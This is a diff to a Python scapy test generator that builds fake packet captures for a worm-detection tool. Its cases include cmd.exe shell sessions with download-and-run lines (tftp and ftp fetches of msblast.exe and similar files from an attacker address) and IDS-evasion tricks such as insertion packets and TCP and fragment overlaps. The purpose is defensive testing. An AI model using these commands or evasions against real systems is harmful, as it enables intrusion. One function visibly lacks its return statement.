@@ -17,6 +17,7 @@ import subprocess
 import sys
 
 from scapy.all import IP, TCP, UDP, CookedLinux, Dot1AD, Dot1Q, Ether, Raw, wrpcap
+from scapy.contrib.mpls import MPLS
 
 HEADER = ("EventID\tTime\tSourceIP\tFileName\tSourcePort\tDestIP\tDestPort\t"
           "Action\tServer\tFetch")
@@ -47,6 +48,12 @@ def escape(s):
     return "".join(out)
 
 
+def name_usable(name):
+    """What the fetcher accepts: 1..255 bytes, no control byte."""
+    raw = name.encode("latin-1")
+    return 0 < len(raw) <= 255 and all(b >= 0x20 and b != 0x7f for b in raw)
+
+
 def payload(name, size):
     """A harmless, recognisable file of the given size."""
     seed = ("WORMSNARE-TEST-PAYLOAD %s " % name).encode()
@@ -60,6 +67,7 @@ class Capture:
         self.pkts = []
         self.events = []      # (time, src, sport, dst, dport, action, file, server)
         self.files = []       # (name, bytes)
+        self.keep_order = False
 
     def add(self, pkt, t):
         pkt.time = t
@@ -68,14 +76,22 @@ class Capture:
     def expect(self, t, sess, action, file, server=""):
         self.events.append((t, sess.cli, sess.cport, sess.srv, sess.sport, action, file, server))
 
+    def expect_at(self, t, attacker, aport, victim, vport, action, file, server=""):
+        """An event whose SourceIP/Port is the attacker, whichever side opened."""
+        self.events.append((t, attacker, aport, victim, vport, action, file, server))
+
     def sorted_pkts(self):
+        if self.keep_order:
+            return list(self.pkts)
         return sorted(self.pkts, key=lambda p: float(p.time))
 
     def tsv(self):
         rows = [HEADER]
         for i, (t, src, sport, dst, dport, action, file, server) in enumerate(
                 sorted(self.events, key=lambda e: e[0]), 1):
-            fetch = "disabled" if action == "get" else ""
+            fetch = ""
+            if action in ("get", "ftp-get"):
+                fetch = "disabled" if name_usable(file) else "invalid-name"
             rows.append("\t".join([str(i), iso(t), src, escape(file), str(sport), dst,
                                    str(dport), action, escape(server), fetch]))
         return "\n".join(rows) + "\n"
@@ -96,21 +112,26 @@ class Session:
         self.t += dt
         return self.t
 
-    def _ip(self, from_client):
+    def _ip(self, from_client, ttl=None):
         self.ipid += 1
         if from_client:
-            return IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=113)
-        return IP(src=self.srv, dst=self.cli, id=self.ipid + 5000, ttl=128)
+            return IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=ttl or 113)
+        return IP(src=self.srv, dst=self.cli, id=self.ipid + 5000, ttl=ttl or 128)
 
-    def seg(self, from_client, flags, data=b"", seq=None, t=None, chksum=None):
+    def seg(self, from_client, flags, data=b"", seq=None, t=None, chksum=None, ttl=None,
+            ack=None, window=None, ipchksum=None):
+        if ack is None:
+            ack = 0 if flags == "S" else (self.sseq if from_client else self.cseq)
         tcp = TCP(sport=self.cport if from_client else self.sport,
                   dport=self.sport if from_client else self.cport, flags=flags,
                   seq=seq if seq is not None else (self.cseq if from_client else self.sseq),
-                  ack=0 if flags == "S" else (self.sseq if from_client else self.cseq),
-                  window=64240)
+                  ack=ack, window=window if window is not None else 64240)
         if chksum is not None:
             tcp.chksum = chksum
-        pkt = self._ip(from_client) / tcp
+        ip = self._ip(from_client, ttl)
+        if ipchksum is not None:
+            ip.chksum = ipchksum
+        pkt = ip / tcp
         if data:
             pkt = pkt / Raw(data)
         self.cap.add(self.l2(pkt), t if t is not None else self.tick())
@@ -305,6 +326,33 @@ def case_qinq():
     return cap
 
 
+def encap_l2(vlans, labels):
+    """Ethernet, 802.1Q/QinQ tags (outermost first), then MPLS labels, then IPv4."""
+    def wrap(p):
+        types = [0x8100 if kind == "q" else 0x88a8 for kind, _ in vlans[1:]]
+        types.append(0x8847 if labels else 0x0800)
+        outer = (0x8100 if vlans[0][0] == "q" else 0x88a8) if vlans else types[-1]
+        frame = Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66", type=outer)
+        for (kind, vid), nxt in zip(vlans, types):
+            frame = frame / Dot1Q(vlan=vid, type=nxt)
+        for i, label in enumerate(labels):
+            frame = frame / MPLS(label=label, s=1 if i == len(labels) - 1 else 0, ttl=64)
+        return frame / p
+    return wrap
+
+
+def case_encapsulations():
+    """Six sessions: plain, 802.1Q, QinQ, MPLS, 802.1Q + two MPLS labels, and a plain one to
+    another victim; live and offline must log the same, with and without capture.filter."""
+    cap = Capture()
+    kinds = [([], []), ([("q", 100)], []), ([("ad", 200), ("q", 100)], []), ([], [16]),
+             ([("q", 100)], [17, 18])]
+    for i, (vlans, labels) in enumerate(kinds):
+        blaster(cap, l2=encap_l2(vlans, labels), tftp=False, cport=1301 + i, t=T0 + 2 * i)
+    blaster(cap, tftp=False, cport=1306, srv="10.0.0.9", t=T0 + 10)
+    return cap
+
+
 def case_nat():
     cap = Capture()
     s = Session(cap)
@@ -490,6 +538,403 @@ def case_tftp_variants():
     return cap
 
 
+# --------------------------------------------------------- shells (issue 11)
+
+PROMPT = b"\r\nC:\\WINDOWS\\system32>"
+
+
+class Shell:
+    """A cmd.exe shell over TCP on any port, bind or reverse.
+
+    The attacker types lines; the victim prints the banner, then after each
+    line the echo cmd.exe gives a piped stdin (the command again), its
+    output and a prompt. reverse=True: the victim opened the connection (a
+    reverse shell), so the TCP client is the victim. Events are expected
+    with SourceIP/Port = attacker, DestIP/Port = victim either way.
+    """
+
+    def __init__(self, cap, attacker=ATTACKER, aport=1234, victim=VICTIM, vport=4444,
+                 reverse=False, t=T0, aisn=7000000, visn=9000000):
+        self.cap, self.t = cap, t
+        self.attacker, self.aport, self.victim, self.vport = attacker, aport, victim, vport
+        self.reverse = reverse
+        self.seq = {"a": aisn + 1, "v": visn + 1}
+        self.isn = {"a": aisn, "v": visn}
+        self.ipid = {"a": 300, "v": 7000}
+
+    def tick(self, dt=0.01):
+        self.t += dt
+        return self.t
+
+    def _seg(self, who, flags, data=b"", seq=None):
+        other = "v" if who == "a" else "a"
+        src, sport = (self.attacker, self.aport) if who == "a" else (self.victim, self.vport)
+        dst, dport = (self.victim, self.vport) if who == "a" else (self.attacker, self.aport)
+        self.ipid[who] += 1
+        tcp = TCP(sport=sport, dport=dport, flags=flags,
+                  seq=seq if seq is not None else self.seq[who],
+                  ack=0 if flags == "S" else self.seq[other], window=64240)
+        pkt = IP(src=src, dst=dst, id=self.ipid[who], ttl=113 if who == "a" else 128) / tcp
+        if data:
+            pkt = pkt / Raw(data)
+        self.cap.add(Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66") / pkt, self.tick())
+
+    def open(self):
+        opener, other = ("v", "a") if self.reverse else ("a", "v")
+        self._seg(opener, "S", seq=self.isn[opener])
+        self._seg(other, "SA", seq=self.isn[other])
+        self._seg(opener, "A")
+
+    def data(self, who, data, chunk=None):
+        data = data.encode("latin-1") if isinstance(data, str) else data
+        chunk = chunk or len(data)
+        for i in range(0, len(data), chunk):
+            part = data[i:i + chunk]
+            self._seg(who, "PA", part)
+            self.seq[who] += len(part)
+        self._seg("v" if who == "a" else "a", "A")
+        return self.t
+
+    def victim_says(self, data):
+        return self.data("v", data)
+
+    def type(self, line, events=(), output=b"", chunk=None, echo=True, prompt=PROMPT):
+        """The attacker types line + LF; events [(action, file, server)] at its last segment."""
+        raw = line.encode("latin-1") if isinstance(line, str) else line
+        data = raw + b"\n"
+        chunk = chunk or len(data)
+        for i in range(0, len(data), chunk):
+            part = data[i:i + chunk]
+            self._seg("a", "PA", part)
+            self.seq["a"] += len(part)
+        t = self.t
+        for action, file, *server in events:
+            self.cap.expect_at(t, self.attacker, self.aport, self.victim, self.vport, action,
+                               file, server[0] if server else "")
+        reply = (raw + b"\r\n" if echo else b"") + output + (prompt or b"")
+        if reply:
+            self.victim_says(reply)
+        return t
+
+    def close(self):
+        closer, other = ("a", "v")
+        self._seg(closer, "FA")
+        self.seq[closer] += 1
+        self._seg(other, "FA")
+        self.seq[other] += 1
+        self._seg(closer, "A")
+
+
+def stage_bytes(n):
+    """Deterministic bytes standing for a stager's stage (not code: a counter hash)."""
+    return bytes(hashlib.sha256(b"stage%d" % i).digest()[0] for i in range(n))
+
+
+def case_shell_reverse():
+    """The victim connects out to the attacker's 1225; the attacker uses ftp -A."""
+    cap = Capture()
+    sh = Shell(cap, aport=1225, vport=1042, reverse=True)
+    sh.open()
+    sh.victim_says(BANNER)
+    sh.type("ftp -A 192.168.1.10", output=b"Connected to 192.168.1.10.\r\n220 FTP ready\r\n"
+            b"331 Anonymous access allowed.\r\n230 Logged in.\r\nftp> ", prompt=None)
+    sh.type("get sqlite3.exe", [("ftp-get", "sqlite3.exe", "192.168.1.10")], echo=False,
+            output=b"200 PORT command successful.\r\n150 Opening BINARY mode data connection.\r\n"
+            b"226 Transfer complete.\r\nftp: 455168 bytes received\r\nftp> ", prompt=None)
+    sh.type("bye", echo=False, output=b"221 Goodbye.\r\n")
+    sh.type('sqlite3 db "select 1"', [("exec", "sqlite3")], output=b"1\r\n")
+    sh.close()
+    return cap
+
+
+def case_shell_port_banner():
+    """A bind shell on 9988, found by its banner; one name is unusable."""
+    cap = Capture()
+    sh = Shell(cap, aport=1300, vport=9988)
+    sh.open()
+    sh.victim_says(BANNER)
+    sh.type("tftp -i 81.132.114.254 GET svc.exe", [("get", "svc.exe", ATTACKER)],
+            output=b"Transfer successful: 6176 bytes in 1 second, 6176 bytes/s\r\n")
+    sh.type("start svc.exe", [("start", "svc.exe")])
+    sh.type("tftp -i 81.132.114.254 GET bad\x01name.exe", [("get", "bad\x01name.exe", ATTACKER)],
+            output=b"Error on server : File not found\r\n")
+    sh.close()
+    return cap
+
+
+def case_shell_midstream_prompt():
+    """Picked up mid-stream on 5555: the first bytes seen end in the victim's prompt."""
+    cap = Capture()
+    sh = Shell(cap, aport=1350, vport=5555)
+    sh.seq["a"] += 120          # no handshake, no banner: both sides already talked
+    sh.seq["v"] += 800
+    sh.victim_says(b" Volume in drive C has no label.\r\n Volume Serial Number is 98E6-D565\r\n"
+                   b"\r\n Directory of C:\\WINDOWS\\system32\r\n\r\n" + PROMPT)
+    sh.type("tftp -i 81.132.114.254 GET mid.exe", [("get", "mid.exe", ATTACKER)],
+            output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
+    sh.type("mid.exe", [("exec", "mid.exe")])
+    sh.close()
+    return cap
+
+
+def case_shell_ftp_echo():
+    """The forensic-challenge bot on 1957: a shell that prints two newlines, an echo script."""
+    cap = Capture()
+    sh = Shell(cap, aport=1400, vport=1957)
+    sh.open()
+    sh.victim_says(b"\n\n")
+    sh.type("echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o &"
+            "echo quit >> o &ftp -n -s:o &del /F /Q o &ssms.exe",
+            [("ftp-get", "ssms.exe", "0.0.0.0:8884"), ("exec", "ssms.exe")],
+            echo=False, prompt=None)
+    sh.close()
+    return cap
+
+
+def case_shell_ftp_interactive():
+    """Typed into ftp.exe: login prompts, get with a local name, then open HOST PORT."""
+    cap = Capture()
+    sh = Shell(cap, aport=1500, vport=4444)
+    sh.open()
+    sh.victim_says(BANNER)
+    sh.type("ftp 5.6.7.8", output=b"Connected to 5.6.7.8.\r\n220 FTP ready\r\nUser (5.6.7.8:(none)): ",
+            prompt=None)
+    sh.type("bob", echo=False, output=b"\r\n331 Password required for bob.\r\nPassword:", prompt=None)
+    sh.type("secret", echo=False, output=b"\r\n230 User bob logged in.\r\nftp> ", prompt=None)
+    sh.type("bin", echo=False, output=b"200 Type set to I.\r\nftp> ", prompt=None)
+    sh.type("get a.exe c:\\a.exe", [("ftp-get", "a.exe", "5.6.7.8")], echo=False,
+            output=b"226 Transfer complete.\r\nftp> ", prompt=None)
+    sh.type("quit", echo=False, output=b"221 Goodbye.\r\n")
+    sh.type("c:\\a.exe", [("exec", "c:\\a.exe")])
+    sh.type("ftp", output=b"ftp> ", prompt=None)
+    sh.type("open 5.6.7.9 2121", echo=False,
+            output=b"Connected to 5.6.7.9.\r\n220 FTP ready\r\nUser (5.6.7.9:(none)): ", prompt=None)
+    sh.type("u", echo=False, output=b"\r\n331 Password required.\r\nPassword:", prompt=None)
+    sh.type("p", echo=False, output=b"\r\n230 Logged in.\r\nftp> ", prompt=None)
+    sh.type("get b.exe", [("ftp-get", "b.exe", "5.6.7.9:2121")], echo=False,
+            output=b"226 Transfer complete.\r\nftp> ", prompt=None)
+    sh.type("bye", echo=False, output=b"221 Goodbye.\r\n")
+    sh.close()
+    return cap
+
+
+def case_shell_long_line():
+    """A 5000-byte line, then a 9000-byte one (cmd.exe reads 8191: KB830473)."""
+    cap = Capture()
+    sh = Shell(cap, aport=1600, vport=4444)
+    sh.open()
+    sh.victim_says(BANNER)
+    tail = " & tftp -i 81.132.114.254 GET five.exe"
+    line = "echo " + "x" * (5000 - 5 - len(tail)) + tail
+    assert len(line) == 5000
+    sh.type(line, [("get", "five.exe", ATTACKER)], chunk=1400)
+    cmd = "tftp -i 81.132.114.254 GET cut.exe"
+    line = " " * 8000 + cmd + " " * (9000 - 8000 - len(cmd))
+    sh.type(line, [("get", "cut.exe", ATTACKER)], chunk=1400)   # the first 8191 bytes run
+    sh.type("start five.exe", [("start", "five.exe")])
+    sh.close()
+    return cap
+
+
+def case_shell_stager():
+    """A Metasploit-style reverse shell on 4321: the stage, then the banner."""
+    cap = Capture()
+    sh = Shell(cap, aport=4321, vport=1032, reverse=True)
+    sh.open()
+    stage = stage_bytes(240)
+    sh.data("a", len(stage).to_bytes(4, "little"))
+    sh.data("a", stage)
+    sh.victim_says(BANNER)
+    sh.type("tftp -i 81.132.114.254 GET stage2.exe", [("get", "stage2.exe", ATTACKER)],
+            output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
+    sh.type("stage2.exe", [("exec", "stage2.exe")])
+    sh.close()
+# ---------------------------------------------- evasions (issue 13), each resolved as
+# the Windows victim resolves it: reassembly/README.md gives every rule and its source
+
+JUNK = "tftp -i 81.132.114.254 GET xxxxxxx.exe"     # as long as the real GET line
+REAL = "tftp -i 81.132.114.254 GET msblast.exe"
+
+
+def insertion(junk_kw):
+    """A junk copy of the GET line the victim refuses, then the real line."""
+    def case():
+        cap = Capture()
+        s = Session(cap)
+        s.handshake()
+        kw = dict(junk_kw)
+        flags = kw.pop("flags", "PA")
+        s.seg(True, flags, (JUNK + "\n").encode(), **kw)
+        s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+        s.line("start msblast.exe", [("start", "msblast.exe")])
+        s.close()
+        return cap
+    return case
+
+
+def case_forged_syn():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.seg(True, "S", seq=s.cseq + 900000)                 # out of the window: ignored
+    s.seg(True, "S", seq=s.cseq + 10, chksum=0xdead)      # in the window, bad checksum
+    s.send("start ")
+    s.seg(True, "S", seq=s.cseq + 50000000, ttl=1)        # mid-line, TTL 1
+    s.line("msblast.exe", [("start", "msblast.exe")])
+    s.close()
+    return cap
+
+
+def case_beyond_window():
+    """The victim offers 512 bytes; junk sent past that is dropped, not queued."""
+    cap = Capture()
+    s = Session(cap)
+    s.seg(True, "S", seq=s.isn)
+    s.seg(False, "SA", seq=s.sisn, window=512)
+    s.seg(True, "A")
+    s.seg(False, "PA", BANNER, window=512)
+    s.sseq += len(BANNER)
+    s.seg(True, "A")
+    pad = "echo " + "A" * 600
+    junk_at = s.cseq + len(pad) + 1      # where the real GET line will start
+    s.seg(True, "PA", (JUNK + "\n").encode(), seq=junk_at)     # beyond the 512 bytes
+    s.send(pad + "\n")
+    s.seg(False, "A", window=512)
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.close()
+    return cap
+
+
+def case_rst_mid_line():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.send("tftp -i 81.132.114.254 ")
+    s.seg(False, "R", seq=s.sseq + 200000)                # out of window
+    s.seg(True, "R", seq=s.cseq + 300000)                 # out of window
+    s.seg(True, "R", seq=s.cseq, chksum=0xdead)           # in window, bad checksum
+    s.seg(True, "R", seq=s.cseq, ttl=2)                   # in window, TTL too low
+    s.line("GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
+    s.close()
+    return cap
+
+
+def case_duplicate_after_rst():
+    """As in the real 2003 capture: a mid-stream session, RST, then the same packets again."""
+    cap = Capture()
+    s = Session(cap)
+    s.sseq += len(BANNER)
+    s.line("start msblast.exe", [("start", "msblast.exe")])
+    s.line("msblast.exe", [("exec", "msblast.exe")])
+    s.reset()
+    for p in list(cap.pkts):
+        cap.add(p.copy(), float(p.time) + 5)
+    return cap
+
+
+def case_data_after_fin():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.seg(True, "FA")
+    s.cseq += 1
+    s.seg(True, "PA", b"start evil.exe\n", seq=s.cseq - 1)    # at the FIN's place
+    s.seg(True, "PA", b"start evil2.exe\n", seq=s.cseq)       # after it
+    s.seg(False, "FA")
+    s.sseq += 1
+    s.seg(True, "A")
+    return cap
+
+
+def case_replay_closed():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.line("start msblast.exe", [("start", "msblast.exe")])
+    s.close()
+    data = [p for p in cap.pkts if p.haslayer(Raw) and p[TCP].sport == s.cport]
+    for p in data:                                         # the client's data, no SYN
+        cap.add(p.copy(), float(p.time) + 30)
+    return cap
+
+
+def case_tcp_overlap():
+    """Out-of-order overlaps: Windows keeps the first copy unless a later one covers it
+    entirely and starts before it (Novak & Sturges 2007; Snort 3 full_right_overlap_os1)."""
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    text = (REAL + "\n").encode()
+    base = s.cseq
+    # 1: same start, same length: the first copy (real) stays
+    s.seg(True, "PA", text[8:], seq=base + 8)
+    s.seg(True, "PA", (JUNK + "\n").encode()[8:], seq=base + 8)
+    s.seg(True, "PA", text[:8], seq=base)
+    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
+    s.cseq = base + len(text)
+    s.seg(False, "A")
+    # 2: junk queued first, then a real copy starting before it and covering it: real wins
+    line2 = b"start msblast.exe\n"
+    base = s.cseq
+    s.seg(True, "PA", b"evil.exe", seq=base + 6)
+    s.seg(True, "PA", line2[4:], seq=base + 4)
+    s.seg(True, "PA", line2[:4], seq=base)
+    cap.expect(s.t, s, "start", "msblast.exe")
+    s.cseq = base + len(line2)
+    s.seg(False, "A")
+    s.close()
+    return cap
+
+
+def case_ipfrag_overlap():
+    """Fragment overlaps, Windows: the first copy wins unless a later fragment starts
+    before an earlier one and ends after it (Novak 2005; Suricata defrag.c, windows)."""
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    text = (REAL + "\n").encode()
+    ip = s._ip(True) / TCP(sport=s.cport, dport=s.sport, flags="PA", seq=s.cseq, ack=s.sseq,
+                           window=64240) / Raw(text)
+    ip = IP(bytes(ip))
+    raw = bytes(ip[TCP])            # 20 header bytes, then the line
+    junk = raw[:20] + (JUNK + "\n").encode()
+
+    def frag(off, chunk, mf):
+        return IP(src=s.cli, dst=s.srv, id=ip.id, proto=6, flags=mf, frag=off // 8,
+                  ttl=113) / Raw(chunk)
+    cap.add(s.l2(frag(0, raw[:24], 1)), s.tick())
+    cap.add(s.l2(frag(40, raw[40:48], 1)), s.tick())       # real bytes 40..47
+    cap.add(s.l2(frag(40, junk[40:48], 1)), s.tick())      # same place: the first stays
+    cap.add(s.l2(frag(32, b"XXXXXXXX", 1)), s.tick())      # junk 32..39, then covered:
+    cap.add(s.l2(frag(24, raw[24:48], 1)), s.tick())       # starts before, ends after it
+    cap.add(s.l2(frag(48, raw[48:], 0)), s.tick())
+    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
+    s.cseq += len(text)
+    s.seg(False, "A")
+    s.line("start msblast.exe", [("start", "msblast.exe")])
+    s.close()
+    return cap
+
+
+def case_clock_jumps():
+    """One packet 20 years ahead, one 20 years back, in the middle of a line."""
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.send("start ms")
+    s.seg(False, "A", t=s.t + 20 * 365 * 86400)
+    s.seg(False, "A", t=s.t - 20 * 365 * 86400)
+    cap.keep_order = True           # the file keeps these where they were sent
+    s.tick(30)
+    s.line("blast.exe", [("start", "msblast.exe")])
+    s.close()
+    return cap
+
+
 def cooked(p):
     return CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6, src=b"\x00\x0c\x29\x11\x22\x33",
                        proto=0x0800) / p
@@ -507,6 +952,7 @@ CASES = {
     "ip-fragments": case_ip_fragments,
     "vlan": case_vlan,
     "qinq": case_qinq,
+    "encapsulations": case_encapsulations,
     "nat": case_nat,
     "variants": case_variants,
     "http-noise": case_http_noise,
@@ -518,6 +964,27 @@ CASES = {
     "overlong": case_overlong,
     "hostile-names": case_hostile_names,
     "tftp-variants": case_tftp_variants,
+    "shell-reverse": case_shell_reverse,
+    "shell-port-banner": case_shell_port_banner,
+    "shell-midstream-prompt": case_shell_midstream_prompt,
+    "shell-ftp-echo": case_shell_ftp_echo,
+    "shell-ftp-interactive": case_shell_ftp_interactive,
+    "shell-long-line": case_shell_long_line,
+    "shell-stager": case_shell_stager,
+    "evasion-forged-syn": case_forged_syn,
+    "evasion-tcp-checksum": insertion({"chksum": 0xdead}),
+    "evasion-ip-checksum": insertion({"ipchksum": 0xdead}),
+    "evasion-ttl": insertion({"ttl": 1}),
+    "evasion-no-ack": insertion({"flags": "P"}),
+    "evasion-bad-ack": insertion({"ack": 5000001 + 900000}),
+    "evasion-beyond-window": case_beyond_window,
+    "evasion-rst": case_rst_mid_line,
+    "duplicate-after-rst": case_duplicate_after_rst,
+    "data-after-fin": case_data_after_fin,
+    "replay-closed": case_replay_closed,
+    "tcp-overlap": case_tcp_overlap,
+    "ipfrag-overlap": case_ipfrag_overlap,
+    "clock-jumps": case_clock_jumps,
 }
 
 
